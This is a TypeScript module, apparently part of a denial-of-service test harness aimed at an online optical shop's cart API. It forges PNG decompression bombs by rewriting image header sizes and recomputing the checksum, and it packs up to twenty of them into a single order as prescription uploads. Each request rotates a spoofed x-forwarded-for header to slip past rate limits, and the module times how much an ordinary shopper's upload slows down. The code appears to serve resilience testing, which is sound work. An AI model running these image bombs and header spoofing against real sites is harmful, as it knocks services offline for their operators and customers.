import { setTimeout as wait } from 'node:timers/promises';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import type { Context, Outcome, Problem } from './measure';
import { type Answer, send } from './send';

/** 38 megapixels of a single colour: 120 KB as a file, 114 MB when decoded. */
const WIDE = { width: 7_600, height: 5_000 };
const HEADER_AT = 16;
const HEADER_CRC_AT = 29;
/** Maximum number of lens options, including photos, in one order (lib/gateway). */
const MAX_OPTIONS = 20;

type Size = { width: number; height: number };

const oneColour = (size: Size) => sharp({ create: { ...size, channels: 3, background: '#f4f4f2' } });

/** A PNG whose header gives another size than its data has. */
function withSize(png: Buffer, { width, height }: Size) {
  const lying = Buffer.from(png);
  lying.writeUInt32BE(width, HEADER_AT);
  lying.writeUInt32BE(height, HEADER_AT + 4);
  lying.writeUInt32BE(crc32(lying.subarray(HEADER_AT - 4, HEADER_CRC_AT)), HEADER_CRC_AT);
  return lying;
}

export type Pictures = Awaited<ReturnType<typeof drawPictures>>;

let made: Promise<Pictures> | undefined;

/** Files that are sent as photos, in base64. Making them takes a second. */
export function makePictures() {
  made ??= drawPictures();
  return made;
}

async function drawPictures() {
  const wide = await oneColour(WIDE).png({ compressionLevel: 9 }).toBuffer();
  const tiny = await oneColour({ width: 1, height: 1 }).png().toBuffer();
  const honest = await oneColour({ width: 1_200, height: 900 }).jpeg().toBuffer();
  const text = (bytes: Buffer) => bytes.toString('base64');
  return {
    wide: text(wide),
    honest: text(honest),
    bombs: [
      withSize(wide, { width: 1, height: 1 }),
      withSize(tiny, WIDE),
      withSize(tiny, { width: 30_000, height: 30_000 }),
      withSize(wide, { width: 6_300, height: 6_300 }),
    ].map(text),
  };
}

/**
 * The order of a frame with lenses, with `photos` as its prescription. The platform accepts one photo; more
 * of them only cost time.
 */
export function orderWith(
  { id, price, sizeId, answers, uploadId }: Context['frame'],
  photos: readonly string[],
) {
  const uploads = photos.map((photo) => ({
    id: uploadId,
    tipo: 'upload',
    preco: 0,
    multiplicarPreco: 'n',
    valorUpload: photo,
  }));
  const produtos = [
    {
      id,
      quantidade: 1,
      idAtributoValor: sizeId,
      preco: price,
      personalizacao: [...answers, ...uploads].slice(-MAX_OPTIONS),
    },
  ];
  return JSON.stringify({ produtos, carrinho: true });
}

const PHOTO_MS = 3_000;
const RETRY_MS = 300;
const HEAD_START_MS = 400;
const GIVEN_UP_MS = 60_000;

/** How long it takes until a shopper's photo is in the cart, including repeated attempts. */
async function honestPhoto({ target, frame, network }: Context, call: string, photo: string) {
  const started = performance.now();
  const body = orderWith(frame, [photo]);
  let status: Answer['status'] | undefined;
  do {
    if (status !== undefined) await wait(RETRY_MS);
    const sender = { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };
    const headers = { ...sender, 'x-forwarded-for': network() };
    ({ status } = await send(target, { method: 'POST', path: call, headers, body, limitMs: GIVEN_UP_MS }));
  } while ((status === 429 || status === 503) && performance.now() - started < GIVEN_UP_MS);
  return { ms: Math.round(performance.now() - started), status };
}

/** Measures the time for a shopper's photo alone, and for another one shortly after the start of `attack`. */
export async function besideHonest(
  context: Context,
  call: string,
  photo: string,
  attack: () => Promise<Answer[]>,
): Promise<Outcome> {
  const alone = await honestPhoto(context, call, photo);
  const attacking = attack();
  await wait(HEAD_START_MS);
  const beside = await honestPhoto(context, call, photo);
  const problems: Problem[] = [];
  if (alone.status !== 200) problems.push({ text: `a shopper's photo alone: ${alone.status}` });
  if (beside.status !== 200) problems.push({ text: `a bystander's photo: ${beside.status}` });
  const took = `a bystander's photo took ${beside.ms} ms, ${alone.ms} ms alone`;
  if (beside.ms > PHOTO_MS) problems.push({ text: took, needsQuiet: true });
  return { answers: await attacking, problems, note: took };
}
